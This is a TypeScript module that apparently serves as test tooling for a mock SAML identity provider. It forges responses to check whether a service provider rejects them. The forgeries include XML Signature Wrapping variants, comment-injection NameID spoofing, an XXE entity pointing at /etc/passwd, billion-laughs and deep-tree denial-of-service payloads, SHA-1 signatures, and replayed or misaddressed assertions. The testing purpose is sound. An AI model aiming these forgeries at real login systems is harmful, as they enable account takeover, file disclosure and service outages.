import { fieldsForApp } from "./app-fields";
import type { LoginInput, LoginResult, SpTarget } from "./index";
import { generateCredential, type KeyStore, type SigningCredential } from "./keys";
import {
  ALGORITHMS,
  type AssertionFields,
  assertionXml,
  buildResponse,
  escapeXml,
  googleSigning,
  type ResponseFields,
  responseXml,
  samlId,
} from "./xml";

/**
 * Input of every forgery. `email` is the identity the forged response CLAIMS (the victim).
 * Forgeries that need a genuine signed assertion to abuse (alteredAfterSigning, signatureWrapping)
 * take it from `attackerEmail`'s own login: by default `mallory@<org domain>`.
 * Forgeries skip the IdP's access checks (an attacker crafts them), but use the org's app
 * configuration (ACS URL, SP entity ID) so that only the one attacked property is wrong.
 */
export interface ForgeInput extends LoginInput {
  attackerEmail?: string;
}

/**
 * XML Signature Wrapping variants (names after Somorovsky et al., "On Breaking SAML", 2012):
 * - `sibling-before` (XSW3): an unsigned evil assertion placed before the signed one in the Response.
 * - `wrapped-in-evil` (XSW4): the evil assertion is the Response's only assertion and holds the
 *   signed one as a child.
 * - `signature-moved` (XSW7/8-like): the genuine assertion hidden in saml2p:Extensions; the evil
 *   assertion, in its place, carries the genuine ds:Signature (which still points at the hidden one).
 * - `response-wrap` (XSW2-like, against response signatures): a new Response holding the evil
 *   assertion carries the genuine response signature, with the genuine Response nested after it.
 */
export type XswVariant = "sibling-before" | "wrapped-in-evil" | "signature-moved" | "response-wrap";
export const XSW_VARIANTS: readonly XswVariant[] = [
  "sibling-before",
  "wrapped-in-evil",
  "signature-moved",
  "response-wrap",
];

/** Test helpers that forge what an attacker would POST to the ACS; each returns a ready-to-POST response. */
export interface Forgery {
  /** No ds:Signature anywhere. */
  unsigned(input: ForgeInput): Promise<LoginResult>;
  /** Signed (assertion, and response if asked) by a fresh key that belongs to nobody; its cert in KeyInfo. */
  resignedWithOtherKey(input: ForgeInput): Promise<LoginResult>;
  /** The attacker's genuine signed response with the NameID changed to `email` afterwards. */
  alteredAfterSigning(input: ForgeInput): Promise<LoginResult>;
  /**
   * CVE-2017-11428 style: the IdP signs `${email}${suffix}` (suffix ".evil.example" by default, an
   * account the attacker controls); a comment is then inserted (`email<!---->suffix`). The signature
   * still verifies (comments are outside exclusive c14n); a naive SP reading the first text node sees `email`.
   */
  commentInjection(input: ForgeInput & { suffix?: string }): Promise<LoginResult>;
  /** XML Signature Wrapping; default variant "sibling-before". */
  signatureWrapping(input: ForgeInput & { variant?: XswVariant }): Promise<LoginResult>;
  /** Genuine and properly signed, but issued an hour ago: every NotOnOrAfter is in the past. */
  expired(input: ForgeInput): Promise<LoginResult>;
  /** Properly signed, but for another SP's entity ID. */
  wrongAudience(input: ForgeInput & { audience?: string }): Promise<LoginResult>;
  /** Properly signed, but SubjectConfirmationData Recipient (and Response Destination) is another SP's ACS. */
  wrongRecipient(input: ForgeInput & { recipient?: string }): Promise<LoginResult>;
  /** A genuine response returned twice, byte for byte. */
  replay(input: ForgeInput): Promise<{ first: LoginResult; second: LoginResult }>;
  /**
   * A genuine signed response preceded by a DTD: `billion-laughs` (default; nested internal
   * entities that expand to ~3 MB, kept small enough not to kill a naive parser outright) or `xxe`
   * (an external entity pointing at file:///etc/passwd). The entity is referenced in an unsigned
   * saml2p:StatusMessage.
   */
  withDoctype(input: ForgeInput & { payload?: "billion-laughs" | "xxe" }): Promise<LoginResult>;
  /** Claims the victim org's issuer but is signed by another org's key (default org id `${idpId}-other`). */
  otherOrg(input: ForgeInput & { otherIdpId?: string }): Promise<LoginResult>;
  /**
   * Signed by the org's genuine key (what Google would sign, by the app's "Signed response" box) but
   * with SHA-1: `weak` = `signature` (RSA-SHA1, SHA-256 digests), `digest` (RSA-SHA256, SHA-1
   * digests) or `both` (the default). Google signs with SHA-256 only.
   */
  weakAlgorithm(input: ForgeInput & { weak?: "signature" | "digest" | "both" }): Promise<LoginResult>;
  /**
   * A genuine, correctly signed assertion in a Response whose StatusCode is not Success (default
   * `urn:oasis:names:tc:SAML:2.0:status:Responder` with `RequestDenied` under it). Google never posts
   * this (it shows an error page); an SP must still refuse it.
   */
  errorStatus(input: ForgeInput & { status?: string; subStatus?: string }): Promise<LoginResult>;
  /**
   * A genuine signed response with a pathological XML tree injected into the signed assertion (so a
   * verifier must canonicalise it before the digest can fail): `deep` nests `<a>` elements,
   * `wide` repeats `<a/>` siblings, until the XML is `bytes` long (default 145,000: about 193 KB of
   * base64, just under a 200 KB form field). Costs an unbounded SP seconds to a minute of CPU.
   */
  pathological(input: ForgeInput & { shape?: "deep" | "wide"; bytes?: number }): Promise<LoginResult>;
}

export interface ForgeContext {
  keys: KeyStore;
  now: () => Date;
  /** The org's app configuration for this input, without any access check. */
  prepare(input: LoginInput): SpTarget;
}

const HOUR_MS = 60 * 60 * 1000;

export function createForgery(ctx: ForgeContext): Forgery {
  let strangerKey: SigningCredential | undefined;
  const stranger = (): SigningCredential => {
    strangerKey ??= generateCredential(ctx.now(), [{ name: "commonName", value: "Not Google" }]);
    return strangerKey;
  };

  function fieldsFor(t: SpTarget, input: LoginInput, nameId: string, at = ctx.now()) {
    return fieldsForApp(t, nameId, input.inResponseTo, at);
  }

  function result(t: SpTarget, xml: string): LoginResult {
    const r: LoginResult = { acsUrl: t.acsUrl, SAMLResponse: Buffer.from(xml, "utf8").toString("base64") };
    if (t.relayState !== undefined) r.RelayState = t.relayState;
    return r;
  }

  function signWith(t: SpTarget, key: SigningCredential) {
    return googleSigning(key, t.signResponse);
  }

  function genuineSigned(t: SpTarget, fields: { assertion: AssertionFields; response: ResponseFields }) {
    return buildResponse(fields, signWith(t, ctx.keys.signing(t.org.idpId)));
  }

  function attacker(t: SpTarget, input: ForgeInput): string {
    return input.attackerEmail ?? `mallory@${t.org.domain}`;
  }

  function replaceOnce(xml: string, search: string, replacement: string): string {
    const at = xml.indexOf(search);
    if (at < 0) throw new Error(`forgery: ${search} not found`);
    return xml.slice(0, at) + replacement + xml.slice(at + search.length);
  }

  function nameIdText(value: string): string {
    return `>${escapeXml(value)}</saml2:NameID>`;
  }

  const SIGNATURE = /<ds:Signature\b[\s\S]*?<\/ds:Signature>/;
  const ASSERTION = /<saml2:Assertion\b[\s\S]*<\/saml2:Assertion>/;

  function extract(xml: string, re: RegExp): string {
    const m = re.exec(xml);
    if (!m) throw new Error(`forgery: ${re} not found`);
    return m[0];
  }

  /** Inserts `insert` right after the element's first `</saml2:Issuer>`. */
  function afterIssuer(xml: string, insert: string): string {
    return replaceOnce(xml, "</saml2:Issuer>", `</saml2:Issuer>${insert}`);
  }

  return {
    async unsigned(input) {
      const t = ctx.prepare(input);
      return result(t, buildResponse(fieldsFor(t, input, input.email), {}));
    },

    async resignedWithOtherKey(input) {
      const t = ctx.prepare(input);
      return result(t, buildResponse(fieldsFor(t, input, input.email), signWith(t, stranger())));
    },

    async alteredAfterSigning(input) {
      const t = ctx.prepare(input);
      const mallory = attacker(t, input);
      const xml = genuineSigned(t, fieldsFor(t, input, mallory));
      return result(t, replaceOnce(xml, nameIdText(mallory), nameIdText(input.email)));
    },

    async commentInjection(input) {
      const t = ctx.prepare(input);
      const suffix = input.suffix ?? ".evil.example";
      const signedName = `${input.email}${suffix}`;
      const xml = genuineSigned(t, fieldsFor(t, input, signedName));
      return result(
        t,
        replaceOnce(
          xml,
          nameIdText(signedName),
          `>${escapeXml(input.email)}<!---->${escapeXml(suffix)}</saml2:NameID>`,
        ),
      );
    },

    async signatureWrapping(input) {
      const t = ctx.prepare(input);
      const variant = input.variant ?? "sibling-before";
      const mallory = attacker(t, input);
      const genuine = fieldsFor(t, input, mallory);
      const evilFields: AssertionFields = { ...genuine.assertion, id: samlId(), nameId: input.email };
      const evil = assertionXml(evilFields);
      const key = ctx.keys.signing(t.org.idpId);

      if (variant === "response-wrap") {
        // The attacker's genuine response, signed at response level (Google's "Signed response": the
        // assertion inside is unsigned); its signature is moved into a
        // new Response (holding the evil assertion) and the genuine Response, minus that signature
        // (which the enveloped transform drops anyway), is nested right after it.
        const signedResponse = buildResponse(genuine, { responseKey: key });
        const responseSignature = extract(signedResponse, SIGNATURE); // the first one is the Response's
        const genuineWithoutSig = replaceOnce(signedResponse, responseSignature, "");
        const evilResponse = responseXml({ ...genuine.response, id: samlId() }, evil);
        return result(t, afterIssuer(evilResponse, responseSignature + genuineWithoutSig));
      }

      // Assertion-level variants: the response signature (if any) cannot survive, so it is unsigned.
      const signedAssertion = extract(buildResponse(genuine, { assertionKey: key }), ASSERTION);
      switch (variant) {
        case "sibling-before":
          return result(t, responseXml(genuine.response, evil + signedAssertion));
        case "wrapped-in-evil":
          return result(
            t,
            responseXml(
              genuine.response,
              replaceOnce(evil, "</saml2:Assertion>", `${signedAssertion}</saml2:Assertion>`),
            ),
          );
        case "signature-moved": {
          // The signature is moved (not copied: a duplicate SignatureValue is itself suspicious) from
          // the genuine assertion, now hidden in Extensions, into the evil one.
          const signature = extract(signedAssertion, SIGNATURE);
          const hidden = replaceOnce(signedAssertion, signature, "");
          const response = responseXml(genuine.response, afterIssuer(evil, signature));
          // Extensions goes between the Response's Issuer and Status.
          return result(
            t,
            replaceOnce(
              response,
              "<saml2p:Status>",
              `<saml2p:Extensions>${hidden}</saml2p:Extensions><saml2p:Status>`,
            ),
          );
        }
      }
      throw new Error(`unknown XSW variant ${String(variant)}`);
    },

    async expired(input) {
      const t = ctx.prepare(input);
      const issuedAt = new Date(ctx.now().getTime() - HOUR_MS);
      return result(t, genuineSigned(t, fieldsFor(t, input, input.email, issuedAt)));
    },

    async wrongAudience(input) {
      const t = ctx.prepare(input);
      const fields = fieldsFor(t, input, input.email);
      fields.assertion.audience = input.audience ?? "https://evil.example/saml/metadata";
      return result(t, genuineSigned(t, fields));
    },

    async wrongRecipient(input) {
      const t = ctx.prepare(input);
      const fields = fieldsFor(t, input, input.email);
      const recipient = input.recipient ?? "https://evil.example/saml/acs";
      fields.assertion.recipient = recipient;
      fields.response.destination = recipient;
      return result(t, genuineSigned(t, fields));
    },

    async replay(input) {
      const t = ctx.prepare(input);
      const first = result(t, genuineSigned(t, fieldsFor(t, input, input.email)));
      return { first, second: { ...first } };
    },

    async withDoctype(input) {
      const t = ctx.prepare(input);
      const payload = input.payload ?? "billion-laughs";
      let dtd: string;
      let ref: string;
      if (payload === "xxe") {
        dtd = '<!DOCTYPE saml2p:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
        ref = "&xxe;";
      } else {
        const levels = ['<!ENTITY lol0 "lol">'];
        for (let i = 1; i <= 6; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
        dtd = `<!DOCTYPE saml2p:Response [${levels.join("")}]>`;
        ref = "&lol6;";
      }
      const xml = genuineSigned(t, fieldsFor(t, input, input.email));
      const withRef = replaceOnce(
        xml,
        "</saml2p:Status>",
        `<saml2p:StatusMessage>${ref}</saml2p:StatusMessage></saml2p:Status>`,
      );
      // StatusMessage must follow StatusCode: Status is `<saml2p:Status><saml2p:StatusCode .../>…`.
      return result(t, dtd + withRef);
    },

    async otherOrg(input) {
      const t = ctx.prepare(input);
      const otherKey = ctx.keys.signing(input.otherIdpId ?? `${input.idpId}-other`);
      return result(t, buildResponse(fieldsFor(t, input, input.email), signWith(t, otherKey)));
    },

    async weakAlgorithm(input) {
      const t = ctx.prepare(input);
      const weak = input.weak ?? "both";
      const algorithms = {
        signature: weak === "digest" ? ALGORITHMS.rsaSha256 : ALGORITHMS.rsaSha1,
        digest: weak === "signature" ? ALGORITHMS.sha256 : ALGORITHMS.sha1,
      };
      const key = ctx.keys.signing(t.org.idpId);
      return result(t, buildResponse(fieldsFor(t, input, input.email), { ...signWith(t, key), algorithms }));
    },

    async pathological(input) {
      const t = ctx.prepare(input);
      const xml = genuineSigned(t, fieldsFor(t, input, input.email));
      const room = Math.max(0, (input.bytes ?? 145_000) - xml.length);
      const filler =
        input.shape === "wide"
          ? "<a/>".repeat(Math.floor(room / 4))
          : "<a>".repeat(Math.floor(room / 7)) + "</a>".repeat(Math.floor(room / 7));
      return result(t, replaceOnce(xml, "</saml2:Subject>", `</saml2:Subject>${filler}`));
    },

    async errorStatus(input) {
      const t = ctx.prepare(input);
      const fields = fieldsFor(t, input, input.email);
      fields.response.status = {
        code: input.status ?? "urn:oasis:names:tc:SAML:2.0:status:Responder",
        subCode:
          input.subStatus ?? (input.status ? undefined : "urn:oasis:names:tc:SAML:2.0:status:RequestDenied"),
      };
      return result(t, genuineSigned(t, fields));
    },
  };
}
